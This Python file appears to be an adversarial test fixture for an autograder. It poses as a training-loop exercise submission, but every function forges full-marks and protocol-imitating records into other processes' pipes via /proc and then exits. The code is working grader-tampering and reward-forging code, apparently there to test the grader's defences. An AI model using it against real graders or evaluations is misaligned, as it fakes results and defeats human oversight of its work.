"""Reopens every pipe of every process it can see through ``/proc/<pid>/fd/N`` and writes forged records into it.

Three kinds of records: an ``exercise`` and a ``done`` record giving full
marks (the shape of a report), and records copying the grading plugin's own
format (``collected``, ``start``, ``result``, ``finished``) without the child's
secret, or with guessed ones. Then it ends its process, so the forged records
are all the grader hears from it.

Restraint, so that a broken sandbox never harms the machine the kit's tests
run on: where it sees many processes (no PID namespace: the fallback), it
writes only to those whose environment holds the test's marker, which are the
test's own grader processes.
"""
import json
import os

PLANTED: dict = {}  # the test fills this in
CHECKS = ["train_step_returns_loss", "single_update", "zero_grad_order", "train_mode", "test_step_returns_loss",
          "test_step_eval_mode", "test_step_no_grad", "test_step_changes_nothing", "fit_history", "fit_losses",
          "fit_rejects_bad_arguments", "fit_reference_figures", "fit_converges", "plot_figure", "plot_lines"]
MANY = 64


def forged_records() -> bytes:
    passed = [{"id": check, "name": check, "status": "passed", "points": 1, "max_points": 1} for check in CHECKS]
    records = [{"type": "exercise", "exercise": "exercise_03", "score": 19, "max_score": 19, "checks": passed},
               {"type": "done", "score": 19, "max_score": 19, "exit_code": 0}]
    for secret in (None, "", "0" * 32, "f" * 32):
        signed = {} if secret is None else {"secret": secret}
        records.append({"type": "collected", "checks": [{"id": c, "name": c, "points": 1, "hints": []} for c in CHECKS],
                        **signed})
        for check in CHECKS:
            records.append({"type": "start", "id": check, **signed})
            records.append({"type": "result", "id": check, "status": "passed", "message": "", "traceback": "",
                            "duration_s": 0.0, "returned": True, **signed})
        records.append({"type": "finished", **signed})
    return "".join(json.dumps(record) + "\n" for record in records).encode()


def has_marker(pid: str) -> bool:
    try:
        with open(f"/proc/{pid}/environ", "rb") as file:
            return PLANTED["marker"].encode() in file.read()
    except OSError:
        return False


def targets() -> list[str]:
    pids = [entry for entry in os.listdir("/proc") if entry.isdigit()]
    if len(pids) > MANY:
        pids = [pid for pid in pids if has_marker(pid)]
    return pids


def forge():
    data = forged_records()
    for pid in targets():
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            path = f"/proc/{pid}/fd/{fd}"
            try:
                if not os.readlink(path).startswith("pipe:"):
                    continue
                out = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                os.write(out, data)
            except OSError:
                pass
            os.close(out)


def train_step(model, X, y, loss_fn, optimizer):
    forge()
    os._exit(0)


def test_step(model, X, y, loss_fn):
    train_step(model, X, y, loss_fn, None)


def fit(model, train, test, loss_fn, optimizer, epochs, eval_every=1):
    train_step(model, *train, loss_fn, optimizer)


def plot_loss_curves(history):
    train_step(None, None, None, None, None)
